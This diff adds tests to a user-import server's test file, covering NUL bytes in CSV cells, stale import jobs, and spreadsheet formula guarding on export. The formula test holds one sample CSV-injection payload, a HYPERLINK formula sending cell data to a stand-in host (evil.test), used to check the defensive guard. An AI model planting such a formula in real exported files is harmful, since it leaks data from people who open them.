@@ -6,6 +6,7 @@ import assert from 'node:assert/strict';
 import { mkdtempSync, writeFileSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { randomUUID } from 'node:crypto';
 import { startServer, cli, sql } from '../lib/server.mjs';
 
 let s;
@@ -334,4 +335,150 @@ test('API: needs users.write, and telephony.write for an extension column; anoth
   assert.equal((await s.req('GET', ok.headers.get('location'), { token: tokenB })).status, 404);
   assert.equal((await s.req('GET', `/api/v1/orgs/${other}/imports/${ok.body.id}`, { token: tokenB })).status, 404);
   assert.equal((await postImport(org, 'email\nz@z.test\n', { token: tokenB })).status, 404);
+});
+
+test('a NUL byte in a cell is a row error naming its column, via the CLI and the API', async () => {
+  // it used to cut the cell there silently: A\0B was stored as A
+  const org = await newOrg();
+  const rows = (p) => 'email,first_name,last_name,job_title\n'
+    + `${p}.one@import.test,A\0B,One,\n`
+    + `${p}.two@import.test,Two,Quoted,"x\0y"\n`
+    + `${p}.three@import.test,Three,Fine,\n`;
+  const csv = rows('nul');
+  const r = runImport(org, csv, ['--skip-invalid']);
+  assert.equal(r.status, 1, r.stderr + r.stdout);
+  assert.equal(r.report.failed, 2);
+  assert.equal(r.report.created, 1);
+  assert.deepEqual(r.report.errors.map((e) => [e.line, e.field, e.code]),
+    [[2, 'first_name', 'invalid_text'], [3, 'job_title', 'invalid_text']]);
+  assert.match(r.report.errors[0].message, /first_name .*NUL/);
+  assert.deepEqual((await users(org)).map((u) => u.email), ['nul.three@import.test']);
+  // the email a row is matched by is checked too (update mode finds no user by a cut address)
+  const upd = runImport(org, 'email,job_title\nnul.three@import.test\0x,Boss\n', ['--mode', 'update']);
+  assert.deepEqual(upd.report.errors.map((e) => [e.line, e.field, e.code]), [[2, 'email', 'invalid_text']]);
+  assert.equal(byEmail(await users(org), 'nul.three@import.test').job_title, null);
+  // a NUL in a field past the header's columns is not an empty field
+  const extra = runImport(org, 'email,first_name,last_name\nnul.four@import.test,F,L,\0\n');
+  assert.deepEqual(extra.report.errors.map((e) => [e.line, e.field, e.code]), [[2, 'row', 'too_many_fields']]);
+  // a NUL in the header line refuses the file
+  const head = runImport(org, 'email,first\0_name\nx@import.test,X\n');
+  assert.equal(head.status, 1);
+  assert.match(head.stderr, /NUL/);
+  const headApi = await postImport(org, 'email,first\0_name\nx@import.test,X\n');
+  assert.equal(headApi.status, 422);
+  assert.equal(headApi.body.errors[0].field, 'columns');
+  assert.equal(headApi.body.errors[0].code, 'invalid_text');
+  // the same rows through the API
+  const org2 = await newOrg();
+  const posted = await postImport(org2, rows('nulapi'), { query: '?skip_invalid=true' });
+  assert.equal(posted.status, 202, JSON.stringify(posted.body));
+  const { final } = await waitDone(posted.headers.get('location'));
+  assert.equal(final.status, 'done', JSON.stringify(final));
+  assert.deepEqual(final.errors.map((e) => [e.line, e.field, e.code]),
+    [[2, 'first_name', 'invalid_text'], [3, 'job_title', 'invalid_text']]);
+  assert.ok(final.errors.every((e) => typeof e.message === 'string' && e.message.length > 0));
+  assert.deepEqual((await users(org2)).map((u) => u.email), ['nulapi.three@import.test']);
+});
+
+test('export guards cells a spreadsheet would run as formulas; import takes the guard off again', async () => {
+  const org = await newOrg();
+  const evil = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
+  const made = [
+    { first_name: '@SUM(1+1)', last_name: evil, email: 'f.one@formula.test', mobile: '+31612345678', job_title: '-2+3' },
+    { first_name: 'Piet', infix: "'t", last_name: 'Hart', email: 'f.two@formula.test', job_title: "'=quoted already" },
+    { first_name: '+Plus', last_name: 'Minus-Sign', email: '-dash@formula.test', job_title: 'a=b' },
+  ];
+  for (const u of made) {
+    const r = await s.req('POST', `/api/v1/orgs/${org}/users`, { token: s.adminToken, body: { ...u, invite: false } });
+    assert.equal(r.status, 201, JSON.stringify(r.body));
+  }
+  const ex = cli(['export', ...dbArgs(), '--org', org]);
+  assert.equal(ex.status, 0, ex.stderr);
+  const lines = ex.stdout.split('\r\n');
+  // no cell starts with = + - @ (quoted or not), a tab or a CR
+  for (const l of lines.slice(1)) assert.doesNotMatch(l, /(^|,)"?[=+\-@\t\r]/, l);
+  const one = lines.find((l) => l.includes('f.one@formula.test'));
+  assert.ok(one.startsWith(`,'@SUM(1+1),,"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",f.one@formula.test,,,'+31612345678,'-2+3,`), one);
+  const two = lines.find((l) => l.includes('f.two@formula.test'));
+  assert.ok(two.startsWith(",Piet,'t,Hart,f.two@formula.test,,,,''=quoted already,"), two);
+  const three = lines.find((l) => l.includes('dash@formula.test'));
+  assert.ok(three.startsWith(",'+Plus,,Minus-Sign,'-dash@formula.test,,,,a=b,"), three);
+  // the JSON export is not for spreadsheets: the values as they are
+  const json = JSON.parse(cli(['export', ...dbArgs(), '--org', org, '--format', 'json']).stdout);
+  assert.equal(json.find((u) => u.email === 'f.one@formula.test').last_name, evil);
+
+  // into a fresh installation and out again: the same bytes, the same values
+  const out = file(ex.stdout);
+  const dir = mkdtempSync(join(tmpdir(), 'sb-import-formula-'));
+  try {
+    const init = cli(['init', '--data', dir, '--admin-email', 'root@formula.test', '--admin-password', 'Grand-Canyon-81-Rock']);
+    assert.equal(init.status, 0, init.stderr);
+    const fresh = init.stdout.match(/customer organization: .* \(([0-9a-f-]{36})\)/)[1];
+    const imp = cli(['import', '--data', dir, '--org', fresh, out]);
+    assert.equal(imp.status, 0, imp.stderr + imp.stdout);
+    const again = cli(['export', '--data', dir, '--org', fresh]);
+    assert.equal(again.stdout, ex.stdout);
+    const back = JSON.parse(cli(['export', '--data', dir, '--org', fresh, '--format', 'json']).stdout);
+    for (const u of made) {
+      const b = back.find((x) => x.email === u.email);
+      for (const k of ['first_name', 'infix', 'last_name', 'mobile', 'job_title']) assert.equal(b[k], u[k], `${u.email} ${k}`);
+    }
+  } finally { rmSync(dir, { recursive: true, force: true }); }
+
+  // a file written by hand: a guard before a formula or a number comes off, other quotes stay
+  const org2 = await newOrg();
+  const hand = runImport(org2, "email,first_name,last_name,mobile,job_title\nh.one@formula.test,' 'Jan,'t Hart,'+31 6 12345678,' =1\n");
+  assert.equal(hand.status, 0, hand.stderr + hand.stdout);
+  const h = byEmail(await users(org2), 'h.one@formula.test');
+  assert.equal(h.first_name, "' 'Jan");
+  assert.equal(h.last_name, "'t Hart");
+  assert.equal(h.mobile, '+31612345678');
+  assert.equal(h.job_title, '=1');
+});
+
+test('a job whose server stopped reporting is marked interrupted by another; a job running here is not', async () => {
+  // a heartbeat and a sweep every 0.2 s, stale after 0.5 s
+  const t = await startServer({ args: ['--import-heartbeat', '0.2', '--import-stale-after', '0.5', '--node-id', 'node-7.example:a'] });
+  try {
+    const now = Date.now();
+    const put = (status, node, heartbeat) => {
+      const id = randomUUID();
+      sql(t, `INSERT INTO imports (id, org_id, mode, status, created_at, updated_at, node_id, heartbeat_at) VALUES ('${id}', '${t.orgId}', 'create', '${status}', ${heartbeat}, ${heartbeat}, '${node}', ${heartbeat})`);
+      return `/api/v1/orgs/${t.orgId}/imports/${id}`;
+    };
+    const dead = put('running', 'node-that-died', now - 600000);
+    const deadQueued = put('queued', 'node-that-died', now - 600000);
+    const alive = put('running', 'node-still-beating', now + 3600000);
+    const get = async (loc) => (await t.req('GET', loc, { token: t.adminToken })).body;
+    const ended = async (loc) => {
+      let r;
+      for (let i = 0; i < 100 && ['queued', 'running'].includes((r = await get(loc)).status); i++) await new Promise((res) => setTimeout(res, 100));
+      return r;
+    };
+    for (const loc of [dead, deadQueued]) {
+      const r = await ended(loc);
+      assert.equal(r.status, 'failed', JSON.stringify(r));
+      assert.equal(r.reason, 'interrupted');
+      assert.match(r.detail, /stopped reporting before it ended; nothing was written/);
+      assert.ok(r.finished_at);
+      assert.equal(r.written, false);
+    }
+    assert.equal((await get(alive)).status, 'running', 'a fresh heartbeat is left alone');
+
+    // this node's own job outlives the staleness (on SQLite it cannot write a heartbeat
+    // while its transaction holds the write lock) and ends done, not interrupted
+    let csv = 'email,first_name,last_name,invite\n';
+    for (let i = 0; i < 15000; i++) csv += `long${i}@stale.test,L,${i},no\n`;
+    const started = Date.now();
+    const posted = await t.req('POST', `/api/v1/orgs/${t.orgId}/imports`, { token: t.adminToken, headers: { 'content-type': 'text/csv' }, raw: csv });
+    assert.equal(posted.status, 202);
+    assert.equal(sql(t, `SELECT node_id FROM imports WHERE id = '${posted.body.id}'`).trim(), 'node-7.example:a');
+    let end;
+    for (let i = 0; i < 1200 && !['done', 'failed'].includes((end = await get(posted.headers.get('location'))).status); i++) {
+      await new Promise((res) => setTimeout(res, 100));
+    }
+    assert.equal(end.status, 'done', JSON.stringify(end));
+    assert.equal(end.created, 15000);
+    assert.ok(Date.now() - started > 1000, `the import took only ${Date.now() - started} ms: make it longer than the staleness`);
+  } finally { await t.stop(); }
 });
